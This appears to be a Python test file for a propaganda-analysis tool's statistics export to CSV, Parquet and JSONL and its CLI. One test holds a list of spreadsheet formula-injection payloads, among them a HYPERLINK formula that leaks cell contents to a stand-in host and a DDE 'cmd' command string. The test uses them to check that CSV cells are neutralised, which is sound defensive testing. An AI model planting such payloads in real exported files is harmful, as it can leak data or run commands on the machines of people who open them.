"""Statistics export (CSV, Parquet, JSONL) and `unspin corpus stats`/`export` through the CLI."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from store_fixtures import make_analysis, make_doc
from typer.testing import CliRunner

from unspin.batch.export import STATS, export
from unspin.cli.main import app
from unspin.errors import InputError
from unspin.store import Store


@pytest.fixture
def filled(sqlite_url: str) -> Store:
    store = Store.open(sqlite_url)
    store.add_documents([make_doc("The traitors lied again.", source="A", published="2024-01-05"),
                         make_doc("Our glorious nation stands.", source="B", published="2024-03-01")])
    docs = {d.text: d for d in store.pending("m1")}
    store.save_batch([make_analysis(docs["The traitors lied again."], [("traitors", "name calling")]),
                      make_analysis(docs["Our glorious nation stands."],
                                    [("glorious nation", "flag waving")])])
    return store


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_export_formats(filled: Store, tmp_path: Path, fmt: str) -> None:
    result = export(filled, tmp_path, fmt=fmt, tables=(*STATS, "spans"))
    assert set(result["tables"]) == {*STATS, "spans"}
    path = Path(result["tables"]["spans"]["path"])
    if fmt == "csv":
        rows = list(csv.DictReader(path.open(encoding="utf-8")))
    elif fmt == "jsonl":
        rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    else:
        rows = pq.read_table(path).to_pylist()
    assert sorted(r["text"] for r in rows) == ["glorious nation", "traitors"]
    assert result["tables"]["by_source"]["rows"] == 2


def test_export_rejects_unknown_names(filled: Store, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="format"):
        export(filled, tmp_path, fmt="xlsx")
    with pytest.raises(InputError, match="table"):
        export(filled, tmp_path, tables=("nope",))


def test_cli_stats_and_export(filled: Store, tmp_path: Path) -> None:
    runner = CliRunner()
    result = runner.invoke(app, ["corpus", "stats", "--db", filled.url, "--json", "--bucket", "month"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["overview"]["documents"] == 2
    assert {r["bucket"] for r in data["by_time"]} == {"2024-01-01", "2024-03-01"}
    pretty = runner.invoke(app, ["corpus", "stats", "--db", filled.url])
    assert pretty.exit_code == 0 and "by technique" in pretty.stdout
    out = runner.invoke(app, ["corpus", "export", str(tmp_path / "x"), "--db", filled.url, "-f", "jsonl",
                              "--table", "by_technique", "--source", "A"])
    assert out.exit_code == 0, out.output
    rows = (tmp_path / "x" / "by_technique.jsonl").read_text().splitlines()
    assert [json.loads(r)["technique"] for r in rows] == ["Name_Calling,Labeling"]
    bad = runner.invoke(app, ["corpus", "stats", "--db", filled.url, "--since", "March"])
    assert bad.exit_code == 2 and "2024-03-31" in bad.stderr


HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1,2)", "\tTabbed", "\rReturned"]


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_csv_cells_cannot_carry_formulas(sqlite_url: str, tmp_path: Path, fmt: str) -> None:
    store = Store.open(sqlite_url)
    store.add_documents([make_doc(f"The traitors lied again, story {i}.", source=bad, title=bad,
                                  published="2024-01-05") for i, bad in enumerate(HOSTILE)])
    store.save_batch([make_analysis(d, [("traitors", "name calling")]) for d in store.pending("m1")])
    result = export(store, tmp_path, fmt=fmt, tables=("by_source", "spans"))
    path = Path(result["tables"]["spans"]["path"])
    if fmt == "csv":
        rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
        assert sorted(r["title"] for r in rows) == sorted("'" + h for h in HOSTILE)
        assert sorted(r["source"] for r in rows) == sorted("'" + h for h in HOSTILE)
        assert {r["text"] for r in rows} == {"traitors"} and {r["start"] for r in rows} == {"4"}
        with open(result["tables"]["by_source"]["path"], encoding="utf-8", newline="") as handle:
            by_source = list(csv.DictReader(handle))
        assert {r["source"] for r in by_source} == {"'" + h for h in HOSTILE}
    else:
        rows = ([json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] if fmt == "jsonl"
                else pq.read_table(path).to_pylist())
        assert sorted(r["title"] for r in rows) == sorted(HOSTILE)  # Parquet and JSONL unchanged


def test_spreadsheet_safe_leaves_numbers_and_plain_text() -> None:
    from unspin.batch.export import spreadsheet_safe

    assert [spreadsheet_safe(v) for v in (-3, 2.5, None, "Daily News", "a=b")] == [
        -3, 2.5, None, "Daily News", "a=b"]
